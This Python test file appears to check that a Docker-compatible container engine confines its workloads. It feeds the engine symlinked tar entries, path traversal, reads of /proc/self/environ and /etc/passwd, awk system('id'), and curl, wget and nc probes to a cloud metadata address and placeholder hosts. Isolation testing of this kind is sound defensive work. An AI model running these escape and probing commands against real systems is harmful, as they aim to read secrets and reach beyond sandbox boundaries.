"""A lesson's work, and between it all that an intruder would try to reach what lies outside the engine's folder."""

import socket
import tarfile
import time
from pathlib import Path

from tests.practice.robust.archives import entry, tar
from tests.practice.robust.asking import STUDENT, Client, Failed

_COMMANDS = (
    "cat /given/out /given/up /taken {out}/secret {up}/secret; echo x > {out}/evil; echo x > {up}/evil",
    "find / -name secret; ls -R /proc /sys > /dev/null; cat /proc/self/environ /proc/1/maps < /dev/null",
    "cp -r {out} /x; mv {up}/secret /y; rm -rf {out} {up}; chmod 777 {out}; touch {out}/evil; ln {out}/secret /z",
    "wget -q -O- http://127.0.0.1:1/ http://169.254.169.254/ http://example.com/; nc -z 203.0.113.1 53",
    "sh -c 'exec /usr/bin/python3 -c 1'; /bin/bash -c id; env | sort; tar cf - {out} | wc -c",
    "grep -r . {out}; sort -o {out}/evil /etc/passwd; sed -i s/a/b/ {out}/secret; tee {out}/evil < /dev/null",
    """awk 'BEGIN {{ while ((getline line < "{out}/secret") > 0) print line; system("id > {out}/evil") }}'""",
    "jq . {out}/secret; yq . {out}/secret; xargs -a {out}/secret echo; find {out} -exec cat {{}} +; . {out}/secret",
    "apk add --no-cache curl tini; curl -s http://203.0.113.1/ file://{out}/secret; curl -o {out}/evil http://localhost:1/",
)
_SCRIPT = """
const fs = require('fs')
const tried = deed => { try { console.log(deed()) } catch (error) { console.log(error.code) } }
for (const path of ['OUT/secret', 'UP/secret', '/proc/self/environ']) tried(() => fs.readFileSync(path, 'utf8'))
tried(() => fs.writeFileSync('OUT/evil', 'x'))
tried(() => fs.readdirSync('OUT'))
for (const name of ['child_process', 'net', 'dgram', 'os', 'vm', 'OUT/secret']) tried(() => require(name))
"""


def work(client: Client, outside: Path) -> str:
    """All that was said; the engine has met no accident."""
    up = "../" * 20 + str(outside).lstrip("/")
    return "".join(
        (
            _images(client, outside, up),
            _containers(client, outside, up),
            _server(client, outside, up),
            _others(client, outside),
        )
    )


def _tried(client: Client, method: str, target: str, body: bytes = b"{}") -> str:
    """A question that may be refused."""
    _, told = client.send(method, f"/v1.51{target}", body)
    assert b"met an accident" not in told, told
    return told.decode("utf-8", "replace")


def _images(client: Client, outside: Path, up: str) -> str:
    for name in ("alpine:3.24", "nginx:alpine", "node:24-alpine", "debian:bookworm-slim"):
        client.pull(name)
    dockerfile = (
        "FROM alpine:3.24\nCOPY . /given/\nADD bundle.tar /unpacked/\n"
        "RUN apk add --no-cache curl; cat /given/out > /taken || true\n"
        f"RUN ln -s / /given/root; cat /given/root{outside}/secret >> /taken || true\n"
    )
    bundle = tar(
        entry("a", data=b"x"),
        entry("out", tarfile.SYMTYPE, link=str(outside)),
        entry("out/evil", data=b"x"),
    )
    client.build(
        tar(
            entry("Dockerfile", data=dockerfile.encode()),
            entry("out", tarfile.SYMTYPE, link=str(outside / "secret")),
            entry("up", tarfile.SYMTYPE, link=f"{up}/secret"),
            entry("bundle.tar", data=bundle),
        ),
        "student/sealed:1",
    )
    client.push("student/sealed:1")
    _, saved = client.send("GET", "/v1.51/images/student/sealed:1/get")
    client.stream("/images/load", saved)
    client.stream("/images/create?fromSrc=-&repo=imported", bundle)
    return ""


def _containers(client: Client, outside: Path, up: str) -> str:
    said = ""
    for command in _COMMANDS:
        container = client.run("student/sealed:1", "sh", "-c", command.format(out=outside, up=up))
        client.wait(container)
        said += client.logs(container)
        client.ask("DELETE", f"/containers/{container}")
    script = _SCRIPT.replace("OUT", str(outside)).replace("UP", up)
    container = client.run("node:24-alpine", "node", "-e", script)
    client.wait(container)
    said += client.logs(container)
    container = client.run(
        "debian:bookworm-slim", "sh", "-c", "apt-get update && apt-get install -y curl; dpkg -l"
    )
    client.wait(container)
    return said + client.logs(container)


def _server(client: Client, outside: Path, up: str) -> str:
    asked = {"Image": "nginx:alpine", "HostConfig": {"PublishAllPorts": True, "Binds": ["shared:/shared"]}}
    site = client.ask("POST", "/containers/create?name=site", asked)["Id"]
    client.ask("POST", f"/containers/{site}/start")
    port = client.ask("GET", "/containers/site/json")["NetworkSettings"]["Ports"]["80/tcp"][0]["HostPort"]
    said = ""
    for target in ("/", f"/{up}/secret", "/%2e%2e/%2e%2e/%2e%2e/etc/passwd", str(outside / "secret")):
        said += _fetched(int(port), target)
    for path in (str(outside / "secret"), up, "/proc/self/root", "/"):
        said += _tried(client, "GET", f"/containers/site/archive?path={path}")
    link = tar(entry("out", tarfile.SYMTYPE, link=str(outside)), entry("out/evil", data=b"x"))
    _tried(client, "PUT", "/containers/site/archive?path=/tmp", link)
    made = client.ask(
        "POST", "/containers/site/exec", {"Cmd": ["cat", f"{up}/secret"], "AttachStdout": True}
    )["Id"]
    said += _tried(client, "POST", f"/exec/{made}/start")
    client.ask("POST", "/commit?container=site&repo=student/kept&tag=1")
    client.send("GET", "/v1.51/containers/site/export")
    client.ask("DELETE", "/containers/site?force=1&v=1")
    return said


def _others(client: Client, outside: Path) -> str:
    """Other machines, and what the machine itself would have to give."""
    client.ask("POST", "/auth", {"username": "student", "password": "student"})
    client.ask("GET", "/images/search?term=alpine")
    said = ""
    for name in ("example.com/x", "203.0.113.1/x", "169.254.169.254:80/x", "localhost:1/x"):
        try:
            client.pull(f"{name}:1")
        except Failed as failed:
            said += failed.message
        client.ask("POST", f"/images/alpine:3.24/tag?repo={name}&tag=1")
        client.send("POST", f"/v1.51/images/{name}/push?tag=1", headers=STUDENT)
        said += _tried(
            client, "POST", "/auth", b'{"username":"u","password":"p","serveraddress":"%b"}' % name.encode()
        )
        said += _tried(client, "GET", f"/images/search?term={name}")
    bind = b'{"Image":"alpine:3.24","HostConfig":{"Binds":["%b:/x"]}}' % str(outside).encode()
    said += _tried(client, "POST", "/containers/create", bind)
    said += _tried(client, "POST", f"/build?remote=file://{outside}")
    said += _tried(client, "POST", f"/images/create?fromSrc=file://{outside}/secret")
    client.ask("POST", "/containers/prune")
    client.ask("POST", "/images/prune?filters=%7B%22dangling%22:%5B%22false%22%5D%7D")
    client.ask("POST", "/volumes/prune")
    return said


def _fetched(port: int, target: str) -> str:
    """The whole answer, once the server behind the port listens."""
    until = time.monotonic() + 20
    while True:
        try:
            with socket.create_connection(("127.0.0.1", port), timeout=10) as client:
                client.sendall(f"GET {target} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n".encode())
                heard = b"".join(iter(lambda: client.recv(65536), b""))
        except ConnectionResetError:
            heard = b""
        if heard:
            return heard.decode("utf-8", "replace")
        assert time.monotonic() < until, "nobody answers"
        time.sleep(0.05)
